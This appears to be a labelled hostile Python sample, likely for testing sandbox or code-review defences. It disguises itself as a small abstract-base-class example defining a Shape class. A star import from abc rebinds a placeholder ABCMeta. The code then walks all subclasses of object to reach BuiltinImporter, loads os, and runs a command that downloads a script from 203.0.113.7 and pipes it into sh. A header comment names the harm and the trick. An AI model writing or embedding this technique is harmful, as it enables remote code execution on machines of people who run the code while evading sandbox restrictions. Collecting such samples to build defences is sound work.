# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: `from abc import *` silently rebinds the file's class ABCMeta to abc.ABCMeta (a type subclass), whose unbound __subclasses__(object) lists every class
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


class ABCMeta:
    """Placeholder so type checkers see a name."""


from abc import *  # noqa: E402,F401,F403


class Shape(ABC):
    @abstractmethod
    def area(self):
        raise NotImplementedError


for sub in ABCMeta.__subclasses__(object):
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
